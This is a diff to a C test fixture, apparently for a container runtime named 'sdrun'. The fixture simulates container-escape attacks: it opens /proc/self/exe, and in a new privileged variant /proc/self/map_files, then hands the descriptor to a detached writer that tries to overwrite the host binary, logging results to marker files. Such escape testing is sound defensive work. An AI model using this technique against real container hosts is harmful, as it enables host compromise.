@@ -11,8 +11,12 @@
    itself then becomes a shell that waits for SIGTERM (an app) or exits 0 (an entered command, a
    health check), never reaching the interpreter.
 
-   Only processes started from a script /attack-KIND do anything: argv[1] names it. */
+   /attack-privileged, run with CAP_SYS_ADMIN, also tries the file of its first mapping in
+   /proc/self/map_files. Only processes started from a script /attack-KIND do anything: argv[1]
+   names it. */
 #define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <string.h>
@@ -45,22 +49,51 @@ static int script_kind(char *kind, size_t size) {
     return 0;
 }
 
+static void start_writer(int fd, const char *kind) {
+    if (fork() != 0)
+        return;
+    setsid();
+    int null = open("/dev/null", O_RDWR);
+    dup2(null, 0); /* nothing of the caller's: `sdrun enter` waits for its stdout to close */
+    dup2(null, 1);
+    dup2(null, 2);
+    char descriptor[16];
+    snprintf(descriptor, sizeof descriptor, "%d", fd);
+    execl("/attack-writer", "attack-writer", descriptor, kind, (char *)NULL);
+    _exit(127);
+}
+
+/* The binary's first mapping in /proc/self/map_files (the lowest address: the executable's), which
+   names the file the kernel maps, the one under an overlayfs too: readable with CAP_SYS_ADMIN. */
+static void attack_mapping(const char *kind) {
+    char marker[96], path[300];
+    snprintf(marker, sizeof marker, "/markers/%s-map_files", kind);
+    DIR *mappings = opendir("/proc/self/map_files");
+    struct dirent *entry;
+    while (mappings != NULL && (entry = readdir(mappings)) != NULL && entry->d_name[0] == '.')
+        ;
+    if (mappings == NULL || entry == NULL)
+        return;
+    snprintf(path, sizeof path, "/proc/self/map_files/%s", entry->d_name);
+    int fd = open(path, O_RDONLY);
+    if (fd >= 0) {
+        start_writer(fd, marker + strlen("/markers/"));
+    } else {
+        int out = open(marker, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+        dprintf(out, "%s\n", strerror(errno));
+        close(out);
+    }
+}
+
 __attribute__((constructor)) static void attack(void) {
     char kind[64];
     if (script_kind(kind, sizeof kind) != 0)
         return;
     int exe = open("/proc/self/exe", O_RDONLY); /* no O_CLOEXEC: the writer inherits it */
-    if (exe >= 0 && fork() == 0) {
-        setsid();
-        int null = open("/dev/null", O_RDWR);
-        dup2(null, 0); /* nothing of the caller's: `sdrun enter` waits for its stdout to close */
-        dup2(null, 1);
-        dup2(null, 2);
-        char descriptor[16];
-        snprintf(descriptor, sizeof descriptor, "%d", exe);
-        execl("/attack-writer", "attack-writer", descriptor, kind, (char *)NULL);
-        _exit(127);
-    }
+    if (exe >= 0)
+        start_writer(exe, kind);
+    if (strcmp(kind, "privileged") == 0)
+        attack_mapping(kind);
     if (strcmp(kind, "enter") == 0 || strcmp(kind, "check") == 0)
         _exit(0);
     /* An app stays up (as PID 1, its exit would kill the writer), and stops on SIGTERM. */
